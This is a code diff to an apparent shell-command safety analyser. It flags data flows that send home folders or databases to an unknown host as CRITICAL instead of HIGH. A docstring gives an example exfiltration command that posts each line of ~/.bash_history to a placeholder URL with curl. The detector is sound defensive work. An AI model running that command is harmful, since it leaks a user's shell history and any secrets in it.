@@ -42,7 +42,7 @@ from tui.core.safety.parse import (
     syntax_errors,
 )
 from tui.core.safety.redirects import REVERSE, check_redirects, socket_kinds
-from tui.core.safety.rules import check_layer
+from tui.core.safety.rules import check_layer, strangers
 from tui.core.safety.rules.code import executing_kinds
 from tui.core.safety.rules.embedded import subscript_code
 from tui.core.safety.rules.network import command_kinds
@@ -336,7 +336,12 @@ class Analyser:
             readers = [i for i, k in enumerate(all_kinds) if k & takers]
             found = [i for i, kinds in enumerate(all_kinds) if kind in kinds]
             if found and readers and min(found) < max(readers):
-                self.ctx.add(RiskLevel.HIGH, reason, node_text(node))
+                where = strangers.stranger(node_text(node)) if kind != "recon" else None
+                if where is not None:  # home folders or a database handed to nobody's server
+                    reason = f"{reason.replace(' to another machine', '')}: to {where}"
+                    self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node))
+                else:
+                    self.ctx.add(RiskLevel.HIGH, reason, node_text(node))
 
     def _read_loop_flow(self, node: Node, body: Node) -> None:
         """`while read l; do curl -d "$l" URL; done < ~/.bash_history`: each line sent away."""
